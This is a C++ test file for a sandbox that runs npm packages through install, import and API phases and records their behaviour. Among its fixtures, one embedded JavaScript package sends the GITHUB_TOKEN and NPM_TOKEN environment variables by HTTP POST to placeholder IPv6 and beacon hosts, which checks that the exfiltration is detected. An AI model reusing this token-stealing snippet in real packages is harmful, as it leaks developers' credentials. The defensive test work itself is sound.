// The three phases in the real sandbox, on small packages made by the test.
#include <gtest/gtest.h>

#include <cstdio>
#include <fstream>
#include <set>
#include <unistd.h>

#include "engine/analysis/exfiltration.h"
#include "engine/plan/consumer_project.h"
#include "engine/plan/phase_runner.h"
#include "engine/plan/sandbox_analyzer.h"

namespace vigil::engine::plan {
namespace {

namespace fs = std::filesystem;
using collect::PhaseRun;

void write(const fs::path& p, const std::string& text) {
    fs::create_directories(p.parent_path());
    std::ofstream(p) << text;
}

bool changed(const PhaseRun& run, const std::string& path) {
    for (const auto& e : run.events)
        if (e.kind == "file.change" && e.attrs.value("path", "") == path)
            return true;
    return false;
}

class Phases : public ::testing::Test {
protected:
    void SetUp() override {
        if (geteuid() != 0) {
            const char* ci = std::getenv("CI");
            if (ci != nullptr && std::string(ci) == "true")
                FAIL() << "the privileged phase tests must run as root in CI";
            GTEST_SKIP() << "not root and CI != true: the phase tests need root (run them with sudo)";
        }
        auto client = sandbox::SandboxClient::withHelper(VIGIL_SANDBOX_HELPER);
        ASSERT_TRUE(client.ok()) << client.error().describe();
        client_.emplace(std::move(*client));
        char tmpl[] = "/tmp/vigil-phases-test-XXXXXX";
        ASSERT_NE(mkdtemp(tmpl), nullptr);
        cache_ = tmpl;
    }
    void TearDown() override {
        if (!cache_.empty())
            fs::remove_all(cache_);
    }
    /// A package tree in the "cache": package.json from `manifest` plus files.
    size_t pkg(const std::string& name, const nlohmann::json& manifest, const std::map<std::string, std::string>& files) {
        resolve::PackageNode n;
        n.name = name;
        n.version = manifest.value("version", "1.0.0");
        const size_t i = graph_.addNode(n);
        const fs::path tree = cache_ / "trees" / (name + "-" + n.version);
        nlohmann::json m = manifest;
        m["name"] = name;
        m["version"] = n.version;
        write(tree / "package.json", m.dump());
        for (const auto& [path, text] : files)
            write(tree / path, text);
        trees_[i] = tree;
        return i;
    }
    void dep(size_t from, size_t to) { graph_.addEdge({from, to, graph_.nodes[to].name, "*", resolve::DependencyType::Prod}); }
    std::vector<PhaseRun> run(size_t subject, const std::function<void(PhaseOptions&)>& tweak = {}) {
        StageRequest req;
        req.graph = &graph_;
        req.subject = subject;
        req.trees = trees_;
        req.under = cache_ / "projects";
        auto project = stageConsumerProject(req);
        EXPECT_TRUE(project.ok()) << project.error().describe();
        if (!project)
            return {};
        PhaseOptions options;
        options.cacheRoot = cache_;
        options.grace = std::chrono::milliseconds(200);
        options.installLimits.wall = options.importLimits.wall = options.apiLimits.wall = std::chrono::seconds(30);
        if (tweak)
            tweak(options);
        PhaseRunner runner(*client_, options);
        auto runs = runner.runAll(*project);
        removeConsumerProject(*project);
        return runs;
    }
    std::optional<sandbox::SandboxClient> client_;
    fs::path cache_;
    resolve::PackageGraph graph_;
    std::map<size_t, fs::path> trees_;
};

TEST_F(Phases, InstallScriptsRunInOrderWithNpmsEnvironmentAndDependencyBins) {
    const size_t tool = pkg("tool", {{"bin", {{"tool-cli", "cli.js"}}}},
                            {{"cli.js", "#!/usr/bin/env node\nconsole.log('TOOL RAN');\n"}});
    const size_t life = pkg("life",
                            {{"scripts",
                              {{"preinstall", "echo \"EV=$npm_lifecycle_event NAME=$npm_package_name INIT=$INIT_CWD\""},
                               {"install", "echo \"EV=$npm_lifecycle_event SCRIPT=$npm_lifecycle_script\"; tool-cli"},
                               {"postinstall", "echo \"EV=$npm_lifecycle_event PATH=$PATH\"; echo x > marker"}}}},
                            {{"index.js", "module.exports = 1;\n"}});
    dep(life, tool);
    const auto runs = run(life, [](PhaseOptions& o) { o.phases = {"install"}; });
    ASSERT_EQ(runs.size(), 1u);
    const PhaseRun& install = runs[0];
    EXPECT_EQ(install.outcome, "ok") << install.reason << install.stderrTail;
    const std::string& out = install.stdoutTail;
    const size_t pre = out.find("EV=preinstall NAME=life INIT=/home/dev/project");
    const size_t ins = out.find("EV=install SCRIPT=echo");
    const size_t post = out.find("EV=postinstall PATH=/home/dev/project/node_modules/life/node_modules/.bin:");
    ASSERT_NE(pre, std::string::npos) << out;
    ASSERT_NE(ins, std::string::npos) << out;
    ASSERT_NE(post, std::string::npos) << out;
    EXPECT_LT(pre, ins);
    EXPECT_LT(ins, post);
    EXPECT_NE(out.find("TOOL RAN"), std::string::npos) << "the dependency's bin is on PATH";
    EXPECT_NE(out.find(":/home/dev/project/node_modules/.bin:"), std::string::npos);
    EXPECT_EQ(out.find("@vigil-phase"), std::string::npos) << "driver lines are taken out of the tail";
    ASSERT_EQ(install.stimulus["scripts"].size(), 3u);
    for (const auto& s : install.stimulus["scripts"])
        EXPECT_EQ(s["status"], "ok") << s.dump();
    EXPECT_TRUE(changed(install, "/home/dev/project/node_modules/life/marker"));
}

TEST_F(Phases, ImportSeesTheDependencyClosureEsmOnlyAndEveryExportsEntry) {
    const size_t dep2 = pkg("dep-lib", {{"version", "2.0.0"}}, {{"index.js", "module.exports = { v: '2' };\n"}});
    const size_t multi = pkg(
        "multi",
        {{"exports",
          {{".", {{"require", "./main.cjs"}, {"import", "./main.mjs"}}},
           {"./a", "./a.js"},
           {"./feat/*", "./lib/feat/*.js"},
           {"./hidden", nullptr}}}},
        {{"main.cjs", "const d = require('dep-lib'); require('fs').writeFileSync('/home/dev/project/m-cjs-' + d.v, '');\n"},
         {"main.mjs", "import fs from 'fs'; fs.writeFileSync('/home/dev/project/m-mjs', '');\n"},
         {"a.js", "require('fs').writeFileSync('/home/dev/project/m-a', '');\n"},
         {"lib/feat/x.js", "require('fs').writeFileSync('/home/dev/project/m-feat-x', '');\n"},
         {"lib/feat/y.js", "require('fs').writeFileSync('/home/dev/project/m-feat-y', '');\n"},
         {"hidden.js", "require('fs').writeFileSync('/home/dev/project/m-hidden', '');\n"}});
    dep(multi, dep2);
    const auto runs = run(multi, [](PhaseOptions& o) { o.phases = {"import"}; });
    ASSERT_EQ(runs.size(), 1u);
    const PhaseRun& imp = runs[0];
    EXPECT_EQ(imp.outcome, "ok") << imp.reason << imp.stderrTail;
    for (const char* m : {"m-cjs-2", "m-mjs", "m-a", "m-feat-x", "m-feat-y"})
        EXPECT_TRUE(changed(imp, std::string("/home/dev/project/") + m)) << m;
    EXPECT_FALSE(changed(imp, "/home/dev/project/m-hidden"));
    EXPECT_EQ(imp.stimulus["entries"].size(), 4u) << imp.stimulus.dump();
}

TEST_F(Phases, EsmOnlyPackageIsImportedNotLostToRequireEsm) {
    const size_t esm = pkg("esm-only", {{"type", "module"}, {"exports", {{".", {{"import", "./index.js"}}}}}},
                           {{"index.js", "import { writeFileSync } from 'fs';\nwriteFileSync('/home/dev/project/esm-ran', '');\n"
                                         "export default function hello() {}\n"}});
    const auto runs = run(esm, [](PhaseOptions& o) { o.phases = {"import"}; });
    ASSERT_EQ(runs.size(), 1u);
    EXPECT_EQ(runs[0].outcome, "ok") << runs[0].reason << runs[0].stderrTail;
    EXPECT_TRUE(changed(runs[0], "/home/dev/project/esm-ran"));
    EXPECT_EQ(runs[0].stimulus["entries"][0]["import"], "ok");
}

TEST_F(Phases, ApiCallsReachExportedFunctionsNestedObjectsAndClassMethods) {
    const size_t api = pkg("api-pkg", {{"main", "index.js"}},
                           {{"index.js",
                             "const fs = require('fs');\n"
                             "exports.fetchUrl = (u) => { if (typeof u === 'string' && u.startsWith('https://'))"
                             " fs.writeFileSync('/home/dev/project/api-fn', u); };\n"
                             "exports.nested = { deep: { run: async (cb) => { if (typeof cb === 'function')"
                             " fs.writeFileSync('/home/dev/project/api-nested', ''); } } };\n"
                             "exports.Client = class Client { constructor(o) { this.o = o; }"
                             " send() { fs.writeFileSync('/home/dev/project/api-class', ''); } };\n"}});
    const auto runs = run(api, [](PhaseOptions& o) { o.phases = {"api"}; });
    ASSERT_EQ(runs.size(), 1u);
    const PhaseRun& r = runs[0];
    EXPECT_EQ(r.outcome, "ok") << r.reason << r.stderrTail;
    EXPECT_TRUE(changed(r, "/home/dev/project/api-fn"));
    EXPECT_TRUE(changed(r, "/home/dev/project/api-nested"));
    EXPECT_TRUE(changed(r, "/home/dev/project/api-class"));
    EXPECT_GT(r.stimulus.value("calls", 0), 20);
}

TEST_F(Phases, HangingInstallTimesOutAndTheNextPhaseStillRuns) {
    const size_t hang = pkg("hangs", {{"scripts", {{"preinstall", "sleep 600"}, {"postinstall", "echo never"}}}},
                            {{"index.js", "require('fs').writeFileSync('/home/dev/project/imported', '');\n"}});
    const auto runs = run(hang, [](PhaseOptions& o) {
        o.phases = {"install", "import"};
        o.installLimits.wall = std::chrono::seconds(3);
    });
    ASSERT_EQ(runs.size(), 2u);
    EXPECT_EQ(runs[0].outcome, "timeout") << runs[0].reason;
    EXPECT_EQ(runs[0].stimulus["scripts"][0]["status"], "timeout");
    EXPECT_EQ(runs[0].stimulus["scripts"][1]["status"], "not_run");
    bool limitEvent = false;
    for (const auto& e : runs[0].events)
        limitEvent = limitEvent || (e.kind == "sandbox.limit" && e.attrs["limit"] == "wall");
    EXPECT_TRUE(limitEvent);
    EXPECT_EQ(runs[1].outcome, "ok") << runs[1].reason;
    EXPECT_TRUE(changed(runs[1], "/home/dev/project/imported"));
}

TEST_F(Phases, CrashingImportIsRecordedWithTheEntryThatCrashed) {
    const size_t crash = pkg("crasher", nlohmann::json::object(), {{"index.js", "process.abort();\n"}});
    const auto runs = run(crash, [](PhaseOptions& o) { o.phases = {"import", "api"}; });
    ASSERT_EQ(runs.size(), 2u);
    EXPECT_EQ(runs[0].outcome, "crashed") << runs[0].reason;
    EXPECT_EQ(runs[0].signal, SIGABRT);
    EXPECT_EQ(runs[0].stimulus.value("interrupted_at", ""), "crasher");
    EXPECT_NE(runs[0].reason.find("while loading crasher"), std::string::npos);
    EXPECT_FALSE(runs[1].outcome.empty());  // the api phase was still attempted
}

TEST_F(Phases, GraceWaitsForWhatThePackageLeftPendingThenEndsWhenIdle) {
    // An unref'd timer (invisible to Node's own liveness) and an orphaned grandchild (no handle
    // left in the driver's process) are still waited for; once both are done, the grace ends.
    const size_t late = pkg("late", {{"main", "index.js"}},
                            {{"index.js",
                              "const fs = require('fs');\n"
                              "setTimeout(() => fs.writeFileSync('/home/dev/project/late-timer', ''), 300).unref();\n"
                              "require('child_process').spawn('sh', ['-c', '(sleep 0.5; echo > /home/dev/project/late-orphan) &'],"
                              " { stdio: 'ignore' });\n"
                              "module.exports = () => {};\n"}});
    const auto runs = run(late, [](PhaseOptions& o) {
        o.phases = {"import", "api"};
        o.grace = std::chrono::milliseconds(10000);
    });
    ASSERT_EQ(runs.size(), 2u);
    for (const PhaseRun& r : runs) {
        EXPECT_EQ(r.outcome, "ok") << r.phase << ": " << r.reason << r.stderrTail;
        EXPECT_TRUE(changed(r, "/home/dev/project/late-timer")) << r.phase;
        EXPECT_TRUE(changed(r, "/home/dev/project/late-orphan")) << r.phase;
        ASSERT_TRUE(r.stimulus.contains("settled")) << r.phase << ": " << r.stimulus.dump();
        EXPECT_EQ(r.stimulus["settled"]["ended"], "idle") << r.stimulus.dump();
    }
}

TEST_F(Phases, AnIntervalKeepsTheGraceToItsEnd) {
    const size_t ticking = pkg("ticking", {{"main", "index.js"}},
                               {{"index.js", "setInterval(() => {}, 50).unref();\nmodule.exports = 1;\n"}});
    const auto runs = run(ticking, [](PhaseOptions& o) { o.phases = {"import"}; });
    ASSERT_EQ(runs.size(), 1u);
    EXPECT_EQ(runs[0].outcome, "ok") << runs[0].reason << runs[0].stderrTail;
    EXPECT_EQ(runs[0].stimulus["settled"]["ended"], "grace") << runs[0].stimulus.dump();
    EXPECT_EQ(runs[0].stimulus["settled"]["pending"], nlohmann::json::array({"Timeout"})) << runs[0].stimulus.dump();
}

TEST_F(Phases, TimersOfMinutesAndHoursFireInOrderWithinThePhase) {
    // A delayed payload (10 minutes), one nested in another (45 minutes, then 2 hours) and an
    // interval of 10 minutes: all run during the import phase, in the order of their delays, and
    // the phase ends soon after instead of at its wall limit.
    const size_t late = pkg("late-timers", {{"main", "index.js"}},
                            {{"index.js",
                              "const fs = require('fs');\n"
                              "const seen = [];\n"
                              "const mark = (label) => { seen.push(label);"
                              " fs.writeFileSync('/home/dev/project/order', seen.join(',')); console.log('FIRED ' + label); };\n"
                              "setTimeout(() => mark('45min') || setTimeout(() => mark('nested-2h'), 2 * 3600e3), 45 * 60e3);\n"
                              "setTimeout(() => mark('10min'), 10 * 60e3);\n"
                              "const iv = setInterval(() => { mark('interval'); clearInterval(iv); }, 11 * 60e3);\n"
                              "module.exports = 1;\n"}});
    const auto started = std::chrono::steady_clock::now();
    const auto runs = run(late, [](PhaseOptions& o) {
        o.phases = {"import"};
        o.grace = std::chrono::milliseconds(1000);
    });
    const auto took = std::chrono::steady_clock::now() - started;
    ASSERT_EQ(runs.size(), 1u);
    const PhaseRun& r = runs[0];
    EXPECT_EQ(r.outcome, "ok") << r.reason << r.stderrTail;
    EXPECT_NE(r.stdoutTail.find("FIRED 10min\nFIRED interval\nFIRED 45min\nFIRED nested-2h"), std::string::npos)
        << r.stdoutTail;
    EXPECT_TRUE(changed(r, "/home/dev/project/order"));
    EXPECT_EQ(r.stimulus["settled"]["ended"], "idle") << r.stimulus.dump();
    EXPECT_GT(r.stimulus["settled"]["timer_wait_ms"].get<int64_t>(), 0) << r.stimulus.dump();
    // ~3.4 s for the 45 minutes, ~3.8 s more for the nested 2 hours, then idle.
    EXPECT_LT(took, std::chrono::seconds(20));
    size_t timers = 0;
    for (const auto& e : r.events)
        if (e.kind == "runtime.timer" && e.attrs.value("delay_ms", 0) >= 600000) {
            ++timers;
            EXPECT_LT(e.attrs.value("accelerated_ms", 0), 5000) << e.attrs.dump();
        }
    EXPECT_EQ(timers, 4u);
}

TEST_F(Phases, TimerWaitIsBoundedByItsOption) {
    // A beacon that re-arms a 30-minute timer forever never lets the phase idle: the wait past
    // the grace stops at timerWait, well before the wall limit.
    const size_t beacon = pkg("beacon", {{"main", "index.js"}},
                              {{"index.js",
                                "const again = () => setTimeout(again, 30 * 60e3);\nagain();\nmodule.exports = 1;\n"}});
    const auto runs = run(beacon, [](PhaseOptions& o) {
        o.phases = {"import"};
        o.timerWait = std::chrono::milliseconds(4000);
    });
    ASSERT_EQ(runs.size(), 1u);
    EXPECT_EQ(runs[0].outcome, "ok") << runs[0].reason;
    const auto& settled = runs[0].stimulus["settled"];
    EXPECT_EQ(settled["ended"], "timer wait") << settled.dump();
    EXPECT_GE(settled["waited_ms"].get<int64_t>(), 3000) << settled.dump();
    EXPECT_LT(settled["waited_ms"].get<int64_t>(), 4500) << settled.dump();
}

TEST_F(Phases, Ipv6LiteralAndAaaaNameAreTracedAndTheirPayloadsProvenExfiltrated) {
    // One token to an IPv6 literal, another to a name the package resolves over AAAA only: both
    // connections are traced with family, address and port (the name joined from the DNS log),
    // and the exfiltration proof finds both tokens in what the honeypot received.
    const size_t v6 = pkg("v6-exfil", {{"main", "index.js"}},
                          {{"index.js",
                            "const http = require('http');\n"
                            "const post = (o, body) => { const r = http.request({ method: 'POST', ...o }, (s) => s.resume());"
                            " r.on('error', (e) => console.log('ERR ' + e.code)); r.end(body); };\n"
                            "post({ host: '2001:db8::7', port: 8080, path: '/lit' }, String(process.env.GITHUB_TOKEN));\n"
                            "require('dns').lookup('six.beacon.example', { family: 6 }, (e, address) => {\n"
                            "  console.log('AAAA ' + (e ? e.code : address));\n"
                            "  post({ host: 'six.beacon.example', family: 6, port: 80, path: '/name' }, String(process.env.NPM_TOKEN));\n"
                            "});\n"
                            "module.exports = 1;\n"}});
    const auto runs = run(v6, [](PhaseOptions& o) {
        o.phases = {"import"};
        o.grace = std::chrono::milliseconds(1500);
    });
    ASSERT_EQ(runs.size(), 1u);
    const PhaseRun& r = runs[0];
    EXPECT_EQ(r.outcome, "ok") << r.reason << r.stderrTail;
    EXPECT_NE(r.stdoutTail.find("AAAA 2606:4700::6812:2007"), std::string::npos) << r.stdoutTail;
    EXPECT_EQ(r.stdoutTail.find("ERR"), std::string::npos) << r.stdoutTail;
    const collect::Event* literal = nullptr;
    const collect::Event* named = nullptr;
    bool aaaa = false;
    for (const auto& e : r.events) {
        if (e.kind == "network.dns" && e.attrs.value("name", "") == "six.beacon.example" && e.attrs.value("type", "") == "AAAA")
            aaaa = true;
        if (e.kind != "network.connect" || e.source != collect::Source::Kernel || e.attrs.value("family", "") != "inet6")
            continue;
        if (e.attrs.value("address", "") == "2001:db8::7" && e.attrs.value("port", 0) == 8080)
            literal = &e;
        if (e.attrs.value("address", "") == "2606:4700::6812:2007" && e.attrs.value("port", 0) == 80)
            named = &e;
    }
    EXPECT_TRUE(aaaa);
    ASSERT_NE(literal, nullptr);
    ASSERT_NE(named, nullptr);
    EXPECT_EQ(named->attrs.value("host", ""), "six.beacon.example") << named->attrs.dump();
    EXPECT_FALSE(literal->attrs.contains("host")) << literal->attrs.dump();

    analysis::PackageIdentity id;
    id.name = "v6-exfil";
    id.version = "1.0.0";
    id.dir = "/home/dev/project/node_modules/v6-exfil";
    const auto proofs = analysis::findExfiltration(phaseRecordOf(r, "node"), id);
    std::set<std::string> seen;
    for (const auto& p : proofs)
        seen.insert(p.variable + " " + p.channel + " " + p.destination);
    EXPECT_TRUE(seen.count("GITHUB_TOKEN http [2001:db8::7]:8080")) << ::testing::PrintToString(seen);
    EXPECT_TRUE(seen.count("NPM_TOKEN http six.beacon.example")) << ::testing::PrintToString(seen);
}

TEST(AnalyzeCli, DemoEnvInspectorPostinstallReachesTheHoneypot) {
    if (geteuid() != 0)
        GTEST_SKIP() << "not root: analyze needs the sandbox";
    char tmpl[] = "/tmp/vigil-analyze-test-XXXXXX";
    ASSERT_NE(mkdtemp(tmpl), nullptr);
    const fs::path home = tmpl;
    const std::string cmd = "XDG_CACHE_HOME=" + (home / "cache").string() + " XDG_DATA_HOME=" + (home / "data").string() +
                            " " VIGIL_CLI " analyze " VIGIL_SOURCE_DIR "/examples/demo/packages/env-inspector-1.0.3.tgz"
                            " --json --offline --phases install,import";
    FILE* pipe = popen(cmd.c_str(), "r");
    ASSERT_NE(pipe, nullptr);
    std::string out;
    char buf[4096];
    while (size_t n = fread(buf, 1, sizeof buf, pipe))
        out.append(buf, n);
    const int status = pclose(pipe);
    fs::remove_all(home);
    ASSERT_EQ(status, 0) << out;
    const auto j = nlohmann::json::parse(out);
    EXPECT_EQ(j["package"], "env-inspector");
    ASSERT_EQ(j["phases"].size(), 2u);
    const auto& install = j["phases"][0];
    EXPECT_EQ(install["phase"], "install");
    EXPECT_EQ(install["stimulus"]["scripts"][0]["event"], "postinstall");
    bool dns = false;
    for (const auto& e : install["events"])
        if (e["kind"] == "network.dns" && e["source"] == "honeypot" &&
            e["attrs"]["name"].get<std::string>().ends_with(".invalid"))
            dns = true;
    EXPECT_TRUE(dns) << install.dump(2);
    EXPECT_GT(install["counts"]["network"].get<int>(), 0);
}

}  // namespace
}  // namespace vigil::engine::plan
